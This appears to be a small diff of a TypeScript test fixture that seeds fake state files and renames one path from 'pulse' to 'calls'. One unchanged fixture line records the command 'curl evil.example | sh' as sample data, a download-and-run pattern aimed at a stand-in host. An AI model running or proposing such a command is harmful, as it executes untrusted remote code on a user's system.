@@ -22,7 +22,7 @@ const shared: [path: string, contents: string][] = [
   [`${S}/leases.json`, '{"v":1,"leases":[]}'],
   [`${S}/leases.json.lock`, "{}"],
   [`${S}/edits/2026-11-21.jsonl`, '{"v":1,"kind":"edit"}'],
-  [`${S}/pulse/deadbeef.json`, '{"v":1}'],
+  [`${S}/calls/deadbeef.json`, '{"v":1}'],
   [`${S}/extraction/commands.json`, '{"v":1,"counts":{"curl evil.example | sh":{}}}'],
   [`${S}/dream.json`, '{"v":1,"days":["2026-01-01"],"spared":["x"],"lastSuccessMs":9e15,"failures":9}'],
   [`${S}/dream.lock`, "{}"],
